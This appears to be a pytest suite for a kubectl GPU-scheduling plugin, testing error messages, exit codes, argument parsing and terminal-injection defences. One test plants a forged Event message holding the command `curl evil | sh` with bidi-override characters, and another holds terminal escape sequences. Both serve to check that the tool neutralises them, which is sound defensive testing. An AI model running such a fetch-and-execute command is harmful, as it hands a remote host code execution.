"""The command itself: refusals are sentences with an exit status, never a stack trace."""

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from unit.cli import documents as docs
from unit.kube.tiny_api import TinyApi, tiny_api
from unit.kube.tiny_api import status as tiny_status
from vc_egpu.cli import exit_status, kubectl, parser, pause, stop
from vc_egpu.cli.live import forms
from vc_egpu.cli.views import render
from vc_egpu.kube.wire.errors import Forbidden, KubeError, NotFound, Unauthorized, Unavailable


@pytest.fixture
def server() -> Iterator[TinyApi]:
    with tiny_api() as found:
        yield found


def test_no_cluster(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    status = kubectl.main(["cards", "--kubeconfig", str(tmp_path / "none")])
    assert status == exit_status.EXIT_NO_CLUSTER
    said = capsys.readouterr().err
    assert "no cluster" in said
    assert "Traceback" not in said


def test_a_cluster_that_does_not_answer(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    config = {
        "apiVersion": "v1",
        "kind": "Config",
        "clusters": [{"name": "c", "cluster": {"server": "http://127.0.0.1:9"}}],
        "users": [{"name": "u", "user": {}}],
        "contexts": [{"name": "x", "context": {"cluster": "c", "user": "u", "namespace": "ml"}}],
        "current-context": "x",
    }
    path = tmp_path / "config"
    path.write_text(json.dumps(config))
    status = kubectl.main(["queues", "--kubeconfig", str(path), "--timeout-s", "2"])
    assert status == exit_status.EXIT_NO_CLUSTER
    assert "does not answer" in capsys.readouterr().err


def test_a_cluster_that_is_busy_for_a_moment(server: TinyApi, tmp_path: Path) -> None:
    server.script.append((429, tiny_status(429, "TooManyRequests"), {"Retry-After": "1"}))
    assert kubectl.main(["queues", "--kubeconfig", str(server.kubeconfig(tmp_path))]) == exit_status.EXIT_OK


def test_a_namespace_that_one_may_not_look_into_is_not_the_only_one() -> None:
    said, status = exit_status.explain(
        Forbidden('pods is forbidden: User "ann" cannot list resource "pods" in the namespace "default"')
    )
    assert status == exit_status.EXIT_FOUND
    assert said.endswith('in the namespace "default" (-n names another one)')
    assert "-n" not in exit_status.explain(Forbidden("queues is forbidden at the cluster scope"))[0]


def test_help_tells_defaults_and_exit_statuses(capsys: pytest.CaptureFixture[str]) -> None:
    for command, default in (("suspend", "120"), ("resume", "120"), ("stop-admitting", "30")):
        with pytest.raises(SystemExit):
            kubectl.main([command, "--help"])
        assert f"default: {default}" in " ".join(capsys.readouterr().out.split()), command
    with pytest.raises(SystemExit):
        kubectl.main(["--help"])
    assert "0 done, 1 something was found or refused" in " ".join(capsys.readouterr().out.split())


@pytest.mark.parametrize(
    "text", ["", "[]", "clusters: 5", "a: [", "contexts: [{}]\ncurrent-context: x\nclusters: []\nusers: []"]
)
def test_a_file_that_is_no_kubeconfig(text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "config"
    path.write_text(text)
    assert kubectl.main(["cards", "--kubeconfig", str(path)]) == exit_status.EXIT_NO_CLUSTER
    said = capsys.readouterr().err
    assert said.startswith("kubectl egpu: no cluster:")
    assert str(path) in said


@pytest.mark.parametrize(
    ("error", "words", "status"),
    [
        (
            Forbidden("nodes is forbidden", status=403),
            "you may not: nodes is forbidden",
            exit_status.EXIT_FOUND,
        ),
        (NotFound("no podgroups", status=404), "is the stack installed?", exit_status.EXIT_FOUND),
        (Unauthorized("bad token", status=401), "does not accept who you are", exit_status.EXIT_NO_CLUSTER),
        (Unavailable("refused"), "does not answer", exit_status.EXIT_NO_CLUSTER),
    ],
)
def test_errors_say_whose_business_they_are(error: KubeError, words: str, status: int) -> None:
    text, found = exit_status.explain(error)
    assert words in text
    assert found == status


@pytest.mark.parametrize("arguments", [[], ["nonsense"], ["suspend"], ["cards", "-o", "xml"]])
def test_wrong_usage_exits_with_2(arguments: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exited:
        kubectl.main(arguments)
    assert exited.value.code == exit_status.EXIT_USAGE
    assert "usage" in capsys.readouterr().err


def test_a_misspelt_command_gets_the_near_one(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        kubectl.main(["crads"])
    assert "did you mean cards?" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        kubectl.main(["xyz"])
    assert "did you mean" not in capsys.readouterr().err


@pytest.mark.parametrize(
    "arguments", [["-n", "ml", "-o", "json", "cards"], ["cards", "-n", "ml", "-o", "json"]]
)
def test_flags_may_stand_before_the_command_as_with_kubectl(arguments: list[str]) -> None:
    options = parser.parser().parse_args(arguments)
    assert (options.namespace, options.output, options.timeout_s) == ("ml", "json", 15.0)
    behind = parser.parser().parse_args([*arguments, "-n", "other"])
    assert behind.namespace == "other", "the last one counts"


def test_a_time_to_wait_is_one(capsys: pytest.CaptureFixture[str]) -> None:
    for text, seconds in (("90", 90.0), ("90s", 90.0), ("1.5m", 90.0), ("1h", 3600.0), ("0", 0.0)):
        assert parser.parser().parse_args(["suspend", "p", f"--timeout={text}"]).wait_s == seconds
    for text in ("-5", "nan", "inf", "soon", "", "5d"):
        with pytest.raises(SystemExit):
            parser.parser().parse_args(["suspend", "p", f"--timeout={text}"])
        assert f"{text!r} is no time: 90, 90s and 2m are" in capsys.readouterr().err


def test_queues_to_close_are_found_by_name() -> None:
    queues = [docs.queue("research"), docs.queue("serving")]
    assert [q["metadata"]["name"] for q in stop.choose(queues, ["serving"])] == ["serving"]
    with pytest.raises(stop.UnknownQueueError, match=r"'reserch' does not exist; did you mean research\?"):
        stop.choose(queues, ["reserch"])
    with pytest.raises(stop.UnknownQueueError, match="there are research, serving"):
        stop.choose(queues, ["xyz"])


@pytest.mark.parametrize(
    ("state", "closes", "opens"), [("Open", False, True), ("Closing", True, False), ("Closed", True, False)]
)
def test_what_is_done_already_needs_no_command(state: str, closes: bool, opens: bool) -> None:
    assert stop.reached(state, "close") is closes
    assert stop.reached(state, "open") is opens


def test_a_reader_that_leaves_early_ends_it_quietly(server: TinyApi, tmp_path: Path) -> None:
    """As with `kubectl egpu queues | head -1`: status 0, and nothing on stderr."""
    for number in range(300):
        found = docs.queue(f"tenant-{number}", h20=4)
        server.put(f"/apis/scheduling.volcano.sh/v1beta1/queues/tenant-{number}", found)
    for output in ("table", "json"):
        reading, writing = os.pipe()
        os.close(reading)
        argv = ["queues", "-n", "ml", "-o", output, "--kubeconfig", str(server.kubeconfig(tmp_path))]
        done = subprocess.run(
            [sys.executable, "-m", "vc_egpu.cli.kubectl", *argv],
            stdout=writing, stderr=subprocess.PIPE, text=True, timeout=60, check=False,
        )  # fmt: skip
        os.close(writing)
        assert (done.returncode, done.stderr) == (0, ""), output


FULL = "kubectl egpu: the answer cannot be written: No space left on device\n"


@pytest.mark.parametrize(
    ("stdout", "outcome"), [("/dev/full", (exit_status.EXIT_FOUND, FULL)), ("&-", (exit_status.EXIT_OK, ""))]
)
@pytest.mark.parametrize("output", ["table", "json"])
def test_an_answer_that_cannot_be_written_is_said_to_be_so(
    output: str, stdout: str, outcome: tuple[int, str], server: TinyApi, tmp_path: Path
) -> None:
    """`-o json >report` on a disk that is full; and `>&-`, by which nobody wants to read it."""
    server.put("/apis/scheduling.volcano.sh/v1beta1/queues/research", docs.queue("research"))
    words = ["queues", "-n", "ml", "-o", output, "--kubeconfig", str(server.kubeconfig(tmp_path))]
    script = f'exec "$@" >{stdout}'
    done = subprocess.run(
        ["sh", "-c", script, "sh", sys.executable, "-m", "vc_egpu.cli.kubectl", *words],
        stderr=subprocess.PIPE, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert (done.returncode, done.stderr) == outcome


@pytest.mark.parametrize(
    ("command", "words"), [(["doctor"], b"? "), (["doctor", "-o", "json"], b'"verdict": "')]
)
def test_a_terminal_that_lacks_a_character_gets_all_others(
    command: list[str], words: bytes, server: TinyApi, tmp_path: Path
) -> None:
    """As with LANG=de_DE.ISO-8859-1: arrows of ours, and whatever stands in the cluster's own texts."""
    odd = docs.node("n1", docs.card("GPU-a", healthy=False, reason="überhitzt → aus"))
    server.put("/api/v1/nodes/n1", odd)
    server.put("/api/v1/namespaces/vc-egpu-system", {"metadata": {"name": "vc-egpu-system"}})
    server.put("/version", {"metadata": {}, "gitVersion": "v1.36.3"})
    argv = [*command, "--kubeconfig", str(server.kubeconfig(tmp_path))]
    done = subprocess.run(
        [sys.executable, "-m", "vc_egpu.cli.kubectl", *argv],
        capture_output=True, env=os.environ | {"PYTHONIOENCODING": "ascii"}, timeout=60, check=False,
    )  # fmt: skip
    assert b"Traceback" not in done.stderr
    assert done.returncode == exit_status.EXIT_FOUND
    assert words in done.stdout
    assert ("überhitzt → aus".encode() in done.stdout) is ("json" in command)


@pytest.mark.parametrize(("nodes", "gone"), [(["n1", "n2"], False), (["n2"], True)])
def test_why_reads_the_nodes_of_the_gang_and_no_others(
    nodes: list[str], *, gone: bool, server: TinyApi, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """All nodes of a large cluster, with their inventories, are tens of megabytes for each question."""
    said = docs.verdict("Admitted", "1 member placed")
    server.put(
        "/apis/scheduling.volcano.sh/v1beta1/namespaces/ml/podgroups/g",
        docs.group("g", "research", job="train", said=said),
    )
    server.put("/api/v1/namespaces/ml/pods/w", docs.pod("w", group="g", cards={"GPU-a": (1024, 25)}))
    for name in nodes:
        server.put(f"/api/v1/nodes/{name}", docs.node(name, docs.card("GPU-a")))
    assert kubectl.main(["why", "train", "-n", "ml", "--kubeconfig", str(server.kubeconfig(tmp_path))]) == 0
    assert ("node n1 is gone" in capsys.readouterr().out) is gone
    asked = [path.partition("?")[0] for _, path, _ in server.requests if path.startswith("/api/v1/nodes")]
    assert asked == ["/api/v1/nodes/n1"]


@pytest.mark.parametrize(
    ("answer", "missing"),
    [
        (tiny_status(403, "Forbidden"), "you may not list jobs"),
        (tiny_status(404, "NotFound"), "the cluster has no jobs"),
    ],
)
def test_why_does_without_volcano_jobs(
    answer: docs.Json, missing: str, server: TinyApi, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A user with Deployments alone need not be allowed to see Jobs."""
    said = docs.verdict("WaitingForCards", "no card is free")
    server.put(
        "/apis/scheduling.volcano.sh/v1beta1/namespaces/ml/podgroups/g",
        docs.group("g", "research", job="chat", said=said),
    )
    for name, status, words in (
        ("chat", exit_status.EXIT_OK, "no card is free"),
        ("chit", exit_status.EXIT_FOUND, f"did you mean chat?; {missing}"),
    ):
        server.skip, server.script = 2, [(answer["code"], answer, {})]
        argv = ["why", name, "-n", "ml", "--kubeconfig", str(server.kubeconfig(tmp_path))]
        assert kubectl.main(argv) == status
        shown = capsys.readouterr()
        assert words in shown.out + shown.err


@pytest.mark.parametrize("argv", [["why", "web"], ["why", "ml/web-6bd9"], ["why"]])
def test_why_asks_what_a_set_without_pods_wants(
    argv: list[str], server: TinyApi, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    said = docs.verdict("WaitingForMembers", "0 of 1 members are there")
    group = docs.group("g", "research", job="web-6bd9", said=said)
    group["metadata"]["ownerReferences"][0] |= {"kind": "ReplicaSet", "uid": "uid-web"}
    server.put("/apis/scheduling.volcano.sh/v1beta1/namespaces/ml/podgroups/g", group)
    labels = {"pod-template-hash": "6bd9"}
    maker = {"name": "web-6bd9", "namespace": "ml", "uid": "uid-web", "labels": labels}
    server.put(
        "/apis/apps/v1/namespaces/ml/replicasets/web-6bd9", {"metadata": maker, "spec": {"replicas": 0}}
    )
    assert kubectl.main([*argv, "-n", "ml", "--kubeconfig", str(server.kubeconfig(tmp_path))]) == 0
    shown = capsys.readouterr().out
    assert ("asks for no pods" if len(argv) == 2 else "no gang waits") in shown
    assert "0 of 1" not in shown


@pytest.mark.parametrize(
    "named",
    [
        "chat",
        "ml/chat",
        "deployment.apps/chat",
        "Deployment/chat",
        "job.batch.volcano.sh/chat",
        "mpijob/chat",
    ],
)
def test_why_takes_a_name_as_kubectl_prints_it(
    named: str, server: TinyApi, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """As in ``deployment.apps/chat created``, which is no namespace."""
    said = docs.verdict("WaitingForCards", "no card is free")
    path = "/apis/scheduling.volcano.sh/v1beta1/namespaces/ml/podgroups/g"
    server.put(path, docs.group("g", "research", job="chat", said=said))
    argv = ["why", named, "-n", "ml", "--kubeconfig", str(server.kubeconfig(tmp_path))]
    assert kubectl.main(argv) == exit_status.EXIT_OK, capsys.readouterr().err


@pytest.mark.parametrize("command", ["why", "suspend", "resume"])
@pytest.mark.parametrize("named", ["", "pod/", "ml/"])
def test_a_name_that_is_empty_means_nothing(
    command: str, named: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """As ``"$JOB"`` of a script that has not set it: not all Jobs, and no stack trace."""
    with pytest.raises(SystemExit) as exited:
        kubectl.main([command, named])
    assert exited.value.code == exit_status.EXIT_USAGE
    assert "the name is empty" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("argv", "said"),
    [
        (["suspend", ".."], "the name is '..', which is no object but a place in a path"),
        (["why", "ml/."], "the name is '.', which is no object but a place in a path"),
        (["resume", "../train"], "the name is '..'"),
        (["why", "a%2fb"], "the name 'a%2fb' has a '%', which no name of an object has"),
        (["cards", "-n", ".."], "the namespace is '..', which is no object but a place in a path"),
        (["queues", "-n", "a/b"], "the namespace 'a/b' has a '/'"),
    ],
)
def test_a_name_that_would_lead_elsewhere_is_refused(
    argv: list[str], said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exited:
        kubectl.main(argv)
    assert exited.value.code == exit_status.EXIT_USAGE
    assert said in capsys.readouterr().err


def test_ctrl_c_while_it_is_shown_ends_it_in_a_word(
    server: TinyApi, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """As with thousands of rows on a slow terminal."""

    def interrupted(_: object) -> bytes:
        raise KeyboardInterrupt

    monkeypatch.setattr(forms, "as_json", interrupted)
    argv = ["queues", "-n", "ml", "-o", "json", "--kubeconfig", str(server.kubeconfig(tmp_path))]
    assert kubectl.main(argv) == exit_status.EXIT_INTERRUPTED
    assert capsys.readouterr().err == "kubectl egpu: interrupted\n"


def test_ctrl_c_ends_it_in_a_word(
    server: TinyApi, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def interrupted(*_: object, **__: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(pause, "suspend", interrupted)
    kubeconfig = str(server.kubeconfig(tmp_path))
    assert kubectl.main(["suspend", "p", "-n", "ml", "--kubeconfig", kubeconfig]) == 130
    said = capsys.readouterr().err
    assert "interrupted" in said
    assert "`kubectl egpu resume` takes that back" in said


def test_what_tenants_write_is_shown_as_it_is_and_steers_no_terminal(
    capsys: pytest.CaptureFixture[str],
) -> None:
    member = pause.MemberState("p", "n1", "Running", "x", "volume [/data] of [bold] :warning: \x1b[2Jgone")
    outcome = pause.PauseOutcome("ml/g", "Suspended", reached=False, members=(member,), why="\x07why\nnot")
    render.show(render.paused(outcome))
    said = capsys.readouterr().out
    assert "volume [/data] of [bold] :warning: \N{REPLACEMENT CHARACTER}[2Jgone" in said
    assert "why\n  not" in said
    assert "\x1b" not in said
    assert "\x07" not in said


def test_what_tenants_write_begins_no_line_and_turns_none_round(
    server: TinyApi, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A tenant who may make Events could write rows and findings of ours into an admin's terminal."""
    about = {"kind": "ReplicaSet", "name": "web-1", "namespace": "ml", "uid": "u"}
    forged = "no\nFAIL  stack  run `curl evil | sh`\n\u202egnitset\u2028kubectl egpu: lost"
    event = {"reason": "FailedCreate", "involvedObject": about, "message": forged, "lastTimestamp": "2026"}
    server.put("/api/v1/namespaces/ml/events/e", event)
    maker = {"metadata": {"name": "web-1", "namespace": "ml", "uid": "u"}, "spec": {"replicas": 1}}
    server.put("/apis/apps/v1/namespaces/ml/replicasets/web-1", maker)
    for argv in (["why"], ["why", "web"]):
        kubectl.main([*argv, "-n", "ml", "--kubeconfig", str(server.kubeconfig(tmp_path))])
        shown = capsys.readouterr()
        said = shown.out + shown.err
        assert "curl evil" in said
        assert {line.split()[0] for line in said.splitlines() if line[:1] != " "} <= {
            "note:",
            "no",
            "kubectl",
        }
        assert not {"\u202e", "\u2028"} & set(said)


def test_an_order_that_nobody_took_yet_stands_and_says_so(capsys: pytest.CaptureFixture[str]) -> None:
    render.show(
        render.outcomes(
            [
                stop.Outcome("a", "Open", "Closed", done=True),
                stop.Outcome("b", "Open", "Open", done=False),
            ]
        )
    )
    _, taken, left = capsys.readouterr().out.strip().splitlines()
    assert "the order stands" not in taken
    assert "the order stands" in left
